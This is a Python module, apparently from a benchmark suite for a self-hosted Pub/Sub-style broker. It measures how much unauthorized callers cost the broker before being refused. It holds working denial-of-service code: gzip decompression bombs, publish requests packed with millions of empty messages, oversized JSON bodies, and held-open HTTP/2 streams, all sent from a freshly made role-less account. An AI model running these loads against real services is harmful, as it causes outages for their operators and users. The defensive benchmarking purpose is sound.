"""Callers who may do nothing, on a broker that asks who calls: what they cost before they are refused.

With the credential that the benchmark shows they make an account without a role.
"""

import asyncio
import base64
import gzip
import json
import time
from collections.abc import Callable, Coroutine, Sequence

import jwt

from benchmarks.attacks.caller import Caller, build_call
from benchmarks.attacks.http2_caller import Http2Caller
from broker.api.generated.messages import PublishRequest

PUBLISH, HEALTH = "/google.pubsub.v1.Publisher/Publish", "/grpc.health.v1.Health/Check"
_NAME: bytes = PublishRequest(topic="projects/good/topics/neighbour").SerializeToString()
_LARGE = 10_485_760  # bytes of a request at most
_STRANGERS, _PAUSE_SECONDS = 4, 0.04
_CONNECTIONS, _STREAMS, _BEGUN, _AGAIN_SECONDS = 9, 21, 1_000_000, 10.0
_FULL_FORCE_SECONDS = 3.0
_AUDIENCE = "https://pubsub.googleapis.com/"
_PROJECT = "projects/greedy"


def most_elements() -> bytes:
    """A publish of as many empty messages as fit: 5.2 million."""
    return _NAME + b"\x12\x00" * ((_LARGE - len(_NAME)) // 2)


def packed_elements() -> bytes:
    return gzip.compress(most_elements())


def packed_zeros() -> bytes:
    return gzip.compress(bytes(_LARGE))


async def compressed_strangers(host: str, port: int, ready: Callable[[], None]) -> None:
    """4 connections without a credential: publishes and health checks of 10 KB that become 10 MB, 100 a second."""
    bombs = [(PUBLISH, packed_elements()), (HEALTH, packed_zeros())]

    async def send(caller: Http2Caller) -> None:
        while True:
            for path, bomb in bombs:
                await caller.call(path, bomb, packed=True)
                await asyncio.sleep(_PAUSE_SECONDS)

    await _go_on([send(Http2Caller(host, port)) for _ in range(_STRANGERS)], ready)


async def many_elements(host: str, port: int, ready: Callable[[], None]) -> None:
    """A token without a role: publishes of 5 million messages, compressed and not; 10 MB over REST."""
    credential = await without_a_role(host, port)
    elements, packed = most_elements(), packed_elements()
    json_body = {"permissions": ["x"] * (_LARGE // 5)}
    topic = f"{_PROJECT}/topics/elements"
    rest = [
        _shown(build_call("POST", f"{topic}:{verb}", json_body), credential)
        for verb in ("testIamPermissions", "setIamPolicy", "publish")
    ]

    async def over_grpc(caller: Http2Caller) -> None:
        while True:
            await caller.call(PUBLISH, packed, authorization=credential, packed=True)
            ended = await caller.begin(PUBLISH, elements, _BEGUN, authorization=credential)
            await ended.wait()
            await asyncio.sleep(_PAUSE_SECONDS)

    async def over_rest(caller: Caller) -> None:
        while True:
            for request in rest:
                await caller.send(request)
                await asyncio.sleep(_PAUSE_SECONDS)

    await _go_on([over_grpc(Http2Caller(host, port)), over_rest(Caller(host, port))], ready)


async def unfinished_requests(host: str, port: int, ready: Callable[[], None]) -> None:
    """9 connections that hold 190 MB of requests without their last byte, of callers who may not publish."""
    credential = await without_a_role(host, port)
    message = _NAME + bytes(_LARGE - len(_NAME))

    async def hold(caller: Http2Caller, number: int) -> None:
        while True:
            shown = credential if number % 2 else ""
            begun = [await caller.begin(PUBLISH, message, _BEGUN, authorization=shown) for _ in range(_STREAMS)]
            await asyncio.gather(*(ended.wait() for ended in begun))
            await asyncio.sleep(_AGAIN_SECONDS)

    await _go_on([hold(Http2Caller(host, port), number) for number in range(_CONNECTIONS)], ready)


async def _go_on(attacks: Sequence[Coroutine[None, None, None]], ready: Callable[[], None]) -> None:
    tasks = [asyncio.create_task(attack) for attack in attacks]
    await asyncio.sleep(_FULL_FORCE_SECONDS)
    ready()
    await asyncio.gather(*tasks)


async def without_a_role(host: str, port: int) -> str:
    """The `Authorization` header of a new service account, which has no role."""
    caller = Caller(host, port)
    account_id = f"stranger-{time.time_ns() % 10**9}"
    account = json.loads(await caller.call("POST", f"{_PROJECT}/serviceAccounts", {"accountId": account_id}))
    made = json.loads(await caller.call("POST", f"{account['name']}/keys", {}))
    key = json.loads(base64.b64decode(made["privateKeyData"]))
    now = int(time.time())
    claims = {
        "iss": key["client_email"],
        "sub": key["client_email"],
        "aud": _AUDIENCE,
        "iat": now,
        "exp": now + 3_600,
    }
    token = jwt.encode(claims, key["private_key"], algorithm="RS256", headers={"kid": key["private_key_id"]})
    return f"Bearer {token}"


def _shown(request: bytes, credential: str) -> bytes:
    """A request with another credential than the benchmark's."""
    head, _, body = request.partition(b"\r\n\r\n")
    lines = [line for line in head.split(b"\r\n") if not line.lower().startswith(b"authorization:")]
    return b"\r\n".join([*lines, f"Authorization: {credential}".encode(), b"", body])
